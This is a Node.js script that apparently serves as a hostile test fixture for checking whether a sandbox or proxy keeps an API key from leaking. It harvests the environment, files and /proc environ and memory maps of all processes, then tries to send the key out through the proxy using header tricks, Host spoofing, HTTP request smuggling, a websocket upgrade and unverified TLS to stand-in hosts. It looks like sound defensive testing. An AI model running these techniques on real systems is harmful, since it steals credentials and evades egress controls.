/**
 * A program that looks for the key of its run: in its environment, its files, other processes, and in answers of servers. Prints what it
 * read, and the status of each of its requests.
 */
import { readdirSync, readFileSync } from "node:fs"
import { connect } from "node:net"
import { join } from "node:path"
import { connect as connectTls } from "node:tls"

const { home, temporary, workspace } = JSON.parse(process.env.HOSTILE)
const placeholder = process.env.ANTHROPIC_API_KEY
const found = []

const read = (path) => {
  try {
    found.push(readFileSync(path, "latin1").slice(0, 1_000_000))
  } catch (error) {
    found.push(String(error.code))
  }
}

const readAll = (folder, depth = 0) => {
  try {
    for (const entry of readdirSync(folder, { withFileTypes: true })) {
      const path = join(folder, entry.name)
      if (entry.isDirectory() && depth < 3) readAll(path, depth + 1)
      else if (entry.isFile()) read(path)
    }
  } catch (error) {
    found.push(String(error.code))
  }
}

found.push(JSON.stringify(process.env))
for (const folder of ["/run", "/tmp", home, temporary, workspace, join(temporary, "..")]) readAll(folder)
for (const pid of readdirSync("/proc").filter((name) => /^[0-9]+$/.test(name)))
  for (const name of ["environ", "cmdline", "maps", "stack"]) read(join("/proc", pid, name))
read(`/proc/${JSON.parse(process.env.HOSTILE).hostProcess}/environ`)

const opened = (target) =>
  new Promise((resolve, reject) => {
    const { hostname, port } = new URL(process.env.HTTPS_PROXY)
    const socket = connect(Number(port), hostname)
    socket.once("error", reject)
    socket.write(`CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`)
    socket.once("data", (head) =>
      String(head).includes(" 200 ") ? resolve(socket) : reject(new Error(String(head)))
    )
  })

const ask = async (host, text, options = {}) => {
  try {
    const socket = connectTls({ socket: await opened(`${host}:443`), servername: host, ...options })
    socket.on("error", () => socket.destroy())
    socket.write(text)
    let answer = ""
    for await (const bytes of socket) answer += bytes
    found.push(answer)
    return answer.split(" ")[1] ?? "nothing"
  } catch (error) {
    found.push(String(error))
    return "failed"
  }
}

const get = (more = "", { host = "model.test", path = "/echo" } = {}) =>
  `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n${more}Connection: close\r\n\r\n`
const key = `x-api-key: ${placeholder}\r\n`

const statuses = {
  ordinary: await ask("model.test", get(key)),
  compressed: await ask("model.test", get(`${key}accept-encoding: gzip, br\r\n`, { path: "/gzip" })),
  header: await ask("model.test", get(`x-other: ${placeholder}\r\n`)),
  bearer: await ask("model.test", get(`authorization: Bearer ${placeholder}\r\n`)),
  query: await ask("model.test", get("", { path: `/echo?key=${placeholder}` })),
  twice: await ask("model.test", get(key + key)),
  host: await ask("model.test", get(key, { host: "echo.test" })),
  hosts: await ask("model.test", get(`Host: echo.test\r\n${key}`)),
  absolute: await ask("model.test", get(key, { path: "https://echo.test/echo" })),
  smuggled: await ask(
    "model.test",
    `POST /echo HTTP/1.1\r\nHost: model.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n${key}\r\n0\r\n\r\n${get(key, { host: "echo.test" })}`
  ),
  other: await ask("echo.test", get(key, { host: "echo.test" }), { rejectUnauthorized: false }),
  otherAsModel: await ask("echo.test", get(key), { rejectUnauthorized: false }),
  upgrade: await ask("model.test", get(`${key}Upgrade: websocket\r\n`).replace("close", "upgrade"))
}

process.stdout.write(JSON.stringify({ statuses, found: { text: found.join("\n"), placeholder } }))
